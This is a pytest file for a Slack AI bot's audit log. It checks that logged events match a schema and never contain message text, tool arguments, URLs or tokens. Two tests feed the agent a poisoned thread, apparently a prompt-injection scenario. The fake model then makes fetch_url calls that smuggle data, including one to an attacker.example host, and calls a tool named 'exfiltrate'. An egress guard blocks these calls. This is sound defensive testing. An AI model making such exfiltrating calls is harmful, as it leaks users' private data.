"""The audit stream end to end: a scripted day of the running app (limit and setting changes, a run with a tool
call, a run whose tool needed approval) written to an ``AUDIT_LOG`` file; every line validates against the
documented schema, and none carries the messages, the tool arguments or the answers."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import aiohttp
import jsonschema
import pytest

from bot import audit
from bot.runs.approval_messages import APPROVE_ACTION_ID
from bot.serve.service import Service
from tests.bot.conftest import App
from tests.bot.oauth.test_oauth_service import install, oauth_service_settings, post_event, web
from tests.bot.runs.test_approvals import _press, _start
from tests.bot.runs.test_egress import poisoned_thread
from tests.bot.workspace.test_usage import ADMIN, ask, limits
from tests.fakes.openai_server import FakeOpenAI, text, tool_calls
from tests.fakes.pages import PageServer
from tests.fakes.slack_api import FakeSlack, Grant
from tests.signing import event_body, mention, next_ts

__all__ = ["oauth_service_settings", "web"]  # fixtures shared with their own tests

#: Unique words in what people and tools write: none may reach the audit stream.
MARKERS = ("MARKERTASK31", "MARKERARG31", "MARKERANSWER31", "MARKERTHOUGHT31")


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


async def test_a_scripted_day_is_audited_by_the_schema_without_any_body(
    app: App, fake_slack: FakeSlack, fake_openai: FakeOpenAI, audit_file: Path
) -> None:
    fake_slack.users[ADMIN] = {"is_admin": True}
    assert "budget" in await limits(app, "budget 25")
    await limits(app, "verbosity compact")
    fake_openai.queue(
        tool_calls(("calculator", {"expression": "6*7"}), content=f"{MARKERS[3]}: multiply."),
        text(f"42, {MARKERS[2]}"),
    )
    await ask(app, fake_slack, f"what is six times seven? {MARKERS[0]}", user="U1")
    fake_openai.queue(tool_calls(("send_note", {"text": f"hi {MARKERS[1]}"})), text(f"Sent {MARKERS[2]}."))
    ts, drain, request = await _start(app, fake_slack)
    await _press(app, request, APPROVE_ACTION_ID, user="U1", ts=ts)
    await drain
    fake_slack.users["UGUEST"] = {"is_restricted": True}
    await ask(app, fake_slack, f"and me? {MARKERS[0]}", user="UGUEST")

    raw = audit_file.read_text()
    assert not [m for m in MARKERS if m in raw]
    written = lines(audit_file)
    for line in written:
        jsonschema.validate(line, audit.SCHEMA)
    changes = [(e["field"], e["old"], e["new"], e["actor"]) for e in written if e["event"] == "limits.changed"]
    assert changes == [("budget_micros", "$10.00", "$25.00", ADMIN), ("verbosity", "full", "compact", ADMIN)]
    runs = [e for e in written if e["event"] == "run.finished"]
    assert [(r["user"], r["stop_reason"], r["steps"], r["tools"]) for r in runs] == [
        ("U1", "final_answer", 2, [{"name": "calculator", "outcomes": {"ok": 1}}]),
        ("U1", "final_answer", 2, [{"name": "send_note", "outcomes": {"ok": 1}}]),
    ]
    assert all(r["team"] == "T0001" and r["channel"] == "C1" and r["spend_micros"] > 0 for r in runs)
    [approval] = [e for e in written if e["event"] == "approval.decided"]
    assert (approval["kind"], approval["tool"], approval["verdict"], approval["decided_by"]) == (
        "tool", "send_note", "approved", "U1")
    assert approval["run_id"] == runs[1]["run_id"]
    [refused] = [e for e in written if e["event"] == "run.refused"]
    assert (refused["user"], refused["reason"], refused["channel"]) == ("UGUEST", "guest", "C1")


async def test_a_guard_hold_is_audited_with_its_host_and_never_the_url_or_the_data(
    guarded: App, fake_slack: FakeSlack, fake_openai: FakeOpenAI, pages: PageServer, audit_file: Path
) -> None:
    root = poisoned_thread(fake_slack, pages.url("/text"))
    fake_openai.queue(tool_calls(("fetch_url", {"url": pages.url("/text") + "?d=zeta-7731-quartz"})), text("Done."))
    await guarded.post_event(event_body(mention(text="<@UBOT> summarise this thread", ts=next_ts(), thread_ts=root)))
    await guarded.drain()
    assert "zeta-7731-quartz" not in audit_file.read_text() and "/text" not in audit_file.read_text()
    written = lines(audit_file)
    for line in written:
        jsonschema.validate(line, audit.SCHEMA)
    [held] = [e for e in written if e["event"] == "guard.decided"]
    assert (held["tool"], held["decision"], held["reason"], held["host"]) == (
        "fetch_url", "held_back", "leak", "")  # a call carrying private data names no destination
    [run] = [e for e in written if e["event"] == "run.finished"]
    assert run["tools"] == [{"name": "fetch_url", "outcomes": {"held_back": 1}}] and run["run_id"] == held["run_id"]


async def test_a_held_call_names_its_registrable_domain_and_a_made_up_tool_is_unknown(
    guarded: App, fake_slack: FakeSlack, fake_openai: FakeOpenAI, pages: PageServer, audit_file: Path
) -> None:
    # The host's first label spells what the thread said: only the domain someone registered may be named.
    root = poisoned_thread(fake_slack, pages.url("/text"))
    fake_openai.queue(tool_calls(("fetch_url", {"url": "https://launchcode-is-quartz.attacker.example/x"}),
                                 ("exfiltrate_MARKERARG31", {"data": "x"})), text("Done."))
    await guarded.post_event(event_body(mention(text="<@UBOT> summarise this thread", ts=next_ts(), thread_ts=root)))
    await guarded.drain()
    raw = audit_file.read_text()
    assert "launchcode" not in raw and "MARKERARG31" not in raw
    written = lines(audit_file)
    for line in written:
        jsonschema.validate(line, audit.SCHEMA)
    [held] = [e for e in written if e["event"] == "guard.decided"]
    assert (held["tool"], held["reason"], held["host"]) == ("fetch_url", "not_allowed", "attacker.example")
    [run] = [e for e in written if e["event"] == "run.finished"]
    assert run["tools"] == [{"name": "fetch_url", "outcomes": {"held_back": 1}},
                            {"name": "unknown", "outcomes": {"unknown_tool": 1}}]


async def test_installs_uninstalls_and_revocations_are_audited_without_tokens(
    web: tuple[Service, aiohttp.ClientSession], fake_slack: FakeSlack, audit_file: Path
) -> None:
    service, http = web
    url = f"http://127.0.0.1:{service.port}"
    fake_slack.add_install("c1", Grant("T1"))
    assert await install(http, url, "c1") == 200
    revoked = {"type": "tokens_revoked", "event_ts": next_ts(), "tokens": {"oauth": ["U1"], "bot": ["UBOT"]}}
    assert await post_event(http, url, event_body(revoked, team_id="T1")) == 200
    assert await post_event(http, url, event_body({"type": "app_uninstalled", "event_ts": next_ts()},
                                                  team_id="T1")) == 200
    raw = audit_file.read_text()
    assert fake_slack.tokens and not [t for t in fake_slack.tokens if t in raw]
    written = lines(audit_file)
    for line in written:
        jsonschema.validate(line, audit.SCHEMA)
    assert [e["event"] for e in written] == ["app.installed", "app.tokens_revoked", "app.uninstalled"]
    assert (written[0]["team"], written[0]["org_wide"]) == ("T1", False) and written[0]["scopes"]
    assert (written[1]["user_tokens"], written[1]["bot_token"]) == (1, True)


def test_the_schema_rejects_a_line_with_a_field_it_does_not_document() -> None:
    line = {"event": "app.uninstalled", "at": "2026-12-05T00:00:00.000Z", "v": audit.SCHEMA_VERSION, "team": "T1",
            "enterprise": ""}
    jsonschema.validate(line, audit.SCHEMA)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({**line, "text": "a message body"}, audit.SCHEMA)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({k: v for k, v in line.items() if k != "team"}, audit.SCHEMA)


def test_audit_log_off_writes_nothing_and_stdout_is_the_default(capsys: pytest.CaptureFixture[str]) -> None:
    from bot.settings import Settings

    assert Settings(_env_file=None).audit_log == audit.STDOUT  # type: ignore[call-arg]
    audit.configure(audit.STDOUT)
    try:
        audit.emit("app.uninstalled", team="T1", enterprise="")
    finally:
        audit.configure(audit.OFF)
    audit.emit("app.uninstalled", team="T2", enterprise="")
    out = capsys.readouterr().out.splitlines()
    assert [json.loads(line)["team"] for line in out] == ["T1"]
